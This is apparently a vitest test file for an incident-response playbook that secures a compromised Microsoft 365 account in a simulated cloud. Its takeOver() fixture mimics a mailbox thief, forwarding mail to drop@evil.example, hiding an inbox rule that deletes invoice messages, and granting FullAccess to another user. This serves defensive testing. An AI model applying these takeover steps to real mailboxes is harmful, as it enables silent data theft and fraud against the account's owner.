/** "Secure account" against the practice cloud: shown first, worked off in order, whatever fails on the way. */
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import { actAsUser } from "../../sandbox/exchange/act-as-user.ts"
import { RESPOND_APP_ID } from "../../sandbox/world/create-world.ts"
import { mergeAlerts } from "../../src/alert/merge-alerts.ts"
import type { ActionName, PlaybookName } from "../../src/model/action.ts"
import { alertId, tenantId } from "../../src/model/ids.ts"
import { playbookSteps } from "../../src/model/playbook.ts"
import { DEFAULT_POLICY, type Policy } from "../../src/model/protection.ts"
import type { PressDeps } from "../../src/respond/press.ts"
import { createPlaybookPlanner } from "../../src/respond/run-plan-playbook.ts"
import type { Safeguard } from "../../src/respond/run-safeguard.ts"
import { type Case, callerOf, KIM, LEE, makeAlert, NOW, unguarded } from "./make-case.ts"
import { type PracticeRig, startPracticeRig } from "./practice-rig.ts"

let rig: PracticeRig
beforeEach(async () => {
  rig = await startPracticeRig()
})
afterEach(() => rig.close())

const LYNNE = "lynne.robin@contoso.example"
const GRADY = "grady.archer@contoso.example"
const THIEF = { userUpn: LYNNE, ip: "203.0.113.77" }

/** What a thief does with Lynne's mailbox. */
function takeOver(): void {
  const act = (cmdlet: string, parameters: Readonly<Record<string, unknown>>) =>
    actAsUser(rig.cloud.world, rig.tenant, THIEF, cmdlet, parameters)
  act("Set-Mailbox", { Identity: LYNNE, ForwardingSmtpAddress: "drop@evil.example" })
  act("New-InboxRule", { Name: ".", SubjectContainsWords: ["invoice"], DeleteMessage: true })
  act("Add-MailboxPermission", { Identity: LYNNE, User: GRADY, AccessRights: ["FullAccess"] })
  const rules = rig.mailbox("lynne.robin").rules
  for (const rule of rules) rule.hidden = true
}

async function takenOver(
  options: { readonly guard?: Safeguard; readonly policy?: Partial<Policy> } & Partial<PressDeps> = {},
): Promise<Case> {
  const { guard = unguarded, policy, ...overrides } = options
  takeOver()
  const one: Case = await rig.incident("revoke-sessions", { user: LYNNE }, LYNNE, {
    planPlaybook: (incident, again) =>
      createPlaybookPlanner({ store: one.store, admin: rig.admin, safeguard: guard })(incident, again),
    policyOf: () => ({ ...DEFAULT_POLICY, ...policy }),
    ...overrides,
  })
  await tellOfPermission(one)
  rig.tick()
  return one
}

/** An alert of its own about the mailbox permission. */
const tellOfPermission = ({ store }: Case) =>
  store.records.saveBatch(
    {
      tenantId: tenantId(rig.tenant.id),
      fetchedAt: NOW,
      records: [],
      rejected: [],
      alerts: [
        makeAlert({
          id: alertId("alr_permission"),
          tenantId: tenantId(rig.tenant.id),
          rule: { ...makeAlert().rule, name: "full-access", actions: ["remove-mailbox-permission", "claim"] },
          target: { kind: "mailbox", id: LYNNE, name: LYNNE },
          object: { mailbox: LYNNE, user: GRADY, accessRights: "FullAccess" },
          subject: `permission ${LYNNE} ${GRADY}`,
        }),
      ],
    },
    (alerts, open) =>
      mergeAlerts(alerts, open, { now: NOW, fetchedAt: NOW, watchedSince: 0, channelsFor: () => [] }),
  )

const press = async (one: Case, name: ActionName = "secure-account", who = KIM, inputs = {}) =>
  one.press(callerOf(who), await one.button(name), { inputs })

const planIn = (reply: unknown): string => /"plan":"([0-9a-f]{24})"/.exec(JSON.stringify(reply))?.[1] ?? ""

/** Presses, confirms what is shown, and runs everything. */
async function secure(one: Case, name: PlaybookName = "secure-account") {
  const plan = planIn(await press(one, name))
  await press(one, name, KIM, { plan })
  await rig.resume(one)
  return steps(one)
}

const rows = (one: Case) => one.store.journal.ofIncident(one.incidentId)
const steps = async (one: Case) => playbookSteps(await rows(one))
const told = async (one: Case) => (await steps(one)).map(({ action, state }) => `${action} ${state}`)

const THEFT = ["Set-Mailbox", "New-InboxRule", "Add-MailboxPermission"]
const CONTAINMENT = [
  "Disable account.",
  "Reset user password.",
  "Update StsRefreshTokenValidFrom Timestamp.",
  "Set-Mailbox",
  "Disable-InboxRule",
  "Remove-MailboxPermission",
]

/** A life of the process that ends right after the journal wrote `method` for the `nth` time; false when it came to its end. */
async function liveUntil(one: Case, method: "intend" | "finish", nth: number): Promise<boolean> {
  let written = 0
  const { journal } = one.store
  const mortal = new Proxy(journal, {
    get:
      (target, name: keyof typeof journal) =>
      async (...given: never[]) => {
        if (written >= nth) throw new Error("killed")
        const answer = await Reflect.apply(target[name], target, given)
        if (name === method) written += 1
        if (written >= nth) throw new Error("killed")
        return answer
      },
  })
  await rig.resume({ ...one, store: { ...one.store, journal: mortal } }).catch(() => undefined)
  return written >= nth
}

const ALL_DONE = [
  "keep-evidence verified",
  "disable-sign-in verified",
  "reset-password verified",
  "revoke-sessions verified",
  "stop-forwarding verified",
  "disable-inbox-rules verified",
  "remove-mailbox-permission verified",
]

describe("pressPlaybook()", () => {
  it("shows every step, whether it can be undone and what it runs, and does nothing yet", async () => {
    const one = await takenOver()

    const shown = JSON.stringify(await press(one))

    for (const title of ["Keep evidence", "Block sign-in", "Reset password", "Sign out everywhere"])
      expect(shown).toContain(title)
    expect(shown).toContain("Changes nothing.")
    expect(shown).toContain("This can't be undone.")
    expect(shown).toContain("Remove-MailboxPermission")
    expect(await rows(one)).toEqual([])
    expect(rig.user("lynne.robin").accountEnabled).toBe(true)
  })

  it("secures the account in the order of its steps, and the incident is fixed", async () => {
    const one = await takenOver()

    const done = await secure(one)

    expect(await told(one)).toEqual(ALL_DONE)
    expect(done.map(({ id }) => id)).toEqual(done.map(({ id }) => id).toSorted((a, b) => a - b))
    expect(rig.user("lynne.robin").accountEnabled).toBe(false)
    const mailbox = rig.mailbox("lynne.robin")
    expect(mailbox.forwardingSmtpAddress).toBeNull()
    expect(mailbox.rules.filter(({ enabled }) => enabled).map(({ name }) => name)).toEqual([
      "Junk E-mail Rule",
    ])
    expect(mailbox.permissions).toEqual([])
    expect((await one.incident()).state).toBe("fixed")
  })

  it("keeps what the account looked like before, with a hash that the trail names", async () => {
    const one = await takenOver()

    const [evidence] = await secure(one)

    expect(evidence?.after).toMatchObject({
      account: LYNNE,
      enabled: true,
      mailbox: { rows: [{ ForwardingSmtpAddress: "smtp:drop@evil.example" }] },
      signInMethods: { rows: [{}, { type: "#microsoft.graph.microsoftAuthenticatorAuthenticationMethod" }] },
    })
    expect(JSON.stringify(evidence?.after)).toContain('"Name":"."')
    const hash = /SHA-256 ([0-9a-f]{64})/.exec(evidence?.result ?? "")?.[1]
    const results = (await one.trail()).filter(({ kind }) => kind === "result")
    expect(hash).toBeDefined()
    expect(results[0]?.what).toContain(hash ?? "no hash")
  })

  it("keeps the reason for what it may not read, and goes on", async () => {
    const one = await takenOver()
    const consents = rig.tenant.consents[RESPOND_APP_ID] ?? []
    rig.tenant.consents[RESPOND_APP_ID] = consents.filter(
      (each) => !each.startsWith("UserAuthenticationMethod"),
    )

    const [evidence] = await secure(one)

    expect(evidence?.after).toMatchObject({
      signInMethods: { notReadable: expect.stringContaining("UserAuthenticationMethod.Read.All") },
      inboxRules: { rows: expect.anything() },
    })
    expect(evidence?.result).toContain("Not readable: sign-in methods")
    expect(await told(one)).toEqual(ALL_DONE)
  })

  it("is one press: one spent button, one click in the trail, and no second run of anything", async () => {
    const one = await takenOver()
    const button = await one.button("secure-account")
    const plan = planIn(await press(one))
    await one.press(callerOf(KIM), button, { inputs: { plan } })
    await one.press(callerOf(KIM), button, { inputs: { plan } })
    await rig.resume(one)

    expect(await rows(one)).toHaveLength(ALL_DONE.length)
    expect(
      (await one.trail()).filter(({ what }) => /^Pressed secure-account on incident \d+$/.test(what)),
    ).toHaveLength(1)
  })

  it("asks again when the steps are others than those that were shown", async () => {
    const one = await takenOver()

    await press(one, "secure-account", KIM, { plan: "0123456789abcdef01234567" })

    expect(await rows(one)).toEqual([])
  })

  it("skips with its reason what can't work, does the rest, and stays open until it is retried", async () => {
    rig.user("lynne.robin").onPremisesSyncEnabled = true
    const one = await takenOver()

    const shown = JSON.stringify(await press(one))
    await secure(one)

    expect(shown).toContain("Block sign-in: skipped. lynne.robin@contoso.example comes from an on-premises")
    expect((await told(one)).filter((line) => !line.endsWith("verified"))).toEqual([
      "disable-sign-in skipped",
      "reset-password skipped",
    ])
    expect((await one.incident()).state).toBe("failed")

    rig.user("lynne.robin").onPremisesSyncEnabled = false
    rig.tick()
    await secure(one, "retry-failed-steps")

    expect(await told(one)).toEqual(ALL_DONE)
    expect((await rows(one)).length).toBe(ALL_DONE.length + 2)
    expect((await one.incident()).state).toBe("fixed")
  })

  it("goes on after a step that fails, and retries that one alone", async () => {
    const one = await takenOver()
    rig.trouble({ service: "exchange", match: '"Set-Mailbox"', kind: "status", status: 400, times: 1 })
    await secure(one)

    expect((await told(one)).filter((line) => !line.endsWith("verified"))).toEqual(["stop-forwarding failed"])
    expect((await one.incident()).state).toBe("failed")

    await secure(one, "retry-failed-steps")

    expect(await told(one)).toEqual(ALL_DONE)
    expect((await one.incident()).state).toBe("fixed")
  })

  it.each(["intend", "finish"] as const)(
    "comes to the same end when the process dies at any %s, and calls nothing twice",
    async (method) => {
      const one = await takenOver()
      const plan = planIn(await press(one))
      await press(one, "secure-account", KIM, { plan })
      let lives = 0
      for (let died = true; died; lives += 1) died = await liveUntil(one, method, lives + 1)

      expect(lives).toBeGreaterThan(3)
      expect(await told(one)).toEqual(ALL_DONE)
      expect((await one.incident()).state).toBe("fixed")
      expect(rig.operations().toSorted()).toEqual([...THEFT, ...CONTAINMENT].toSorted())
    },
  )

  it("waits for a second person where one step needs it, and runs for both", async () => {
    const guard: Safeguard = async ({ fix }) => ({
      second: fix === "disable-sign-in" ? ["She is an administrator."] : [],
    })
    const one = await takenOver({ guard, people: [KIM, { ...LEE, role: "approver", scope: "all" }] })
    const plan = planIn(await press(one))

    await press(one, "secure-account", KIM, { plan })
    expect(await rows(one)).toEqual([])
    expect((await one.incident()).approval).toMatchObject({
      action: "secure-account",
      why: ["She is an administrator."],
    })
    await one.press(callerOf(LEE), await one.button("approve"))

    expect((await rows(one)).map(({ approvedBy }) => approvedBy?.includes(LEE.name))).toEqual(
      ALL_DONE.map(() => true),
    )
  })

  it("is refused whole for an account that no card locks out", async () => {
    const guard: Safeguard = async () => ({ forbidden: "No card locks it out.", second: [] })
    const one = await takenOver({ guard })

    expect(await press(one)).toEqual({ text: "No card locks it out." })
    expect(await rows(one)).toEqual([])
  })

  it("is refused for one's own account", async () => {
    const one = await takenOver({ people: [{ ...KIM, upn: LYNNE }] })

    expect(await press(one)).toMatchObject({ text: expect.stringContaining("your own account") })
  })

  it("takes one step back, and leaves the others", async () => {
    const one = await takenOver()
    await secure(one)

    await rig.undo(one, "disable-sign-in")

    expect(rig.user("lynne.robin").accountEnabled).toBe(true)
    expect(rig.mailbox("lynne.robin").forwardingSmtpAddress).toBeNull()
    expect(await told(one)).toContain("disable-sign-in undone")
  })
})
